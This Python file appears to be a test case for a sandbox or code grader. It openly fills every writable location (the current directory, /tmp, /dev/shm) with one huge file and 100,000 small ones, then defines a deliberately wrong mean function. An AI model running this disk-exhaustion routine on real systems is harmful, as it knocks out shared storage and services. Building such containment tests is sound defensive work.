"""Fills every place it may write to, with few large and many small files."""

STATUS = {"wrong"}

# %%
import os

for place in (".", "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(place, "large"), "wb") as file:
            for _ in range(10**4):
                file.write(b"0" * 10**6)
    except OSError:
        pass
    try:
        for i in range(10**5):
            with open(os.path.join(place, f"small{i}"), "w") as file:
                file.write("x")
    except OSError:
        pass


# %% mean
def mean(x):
    return -1.0
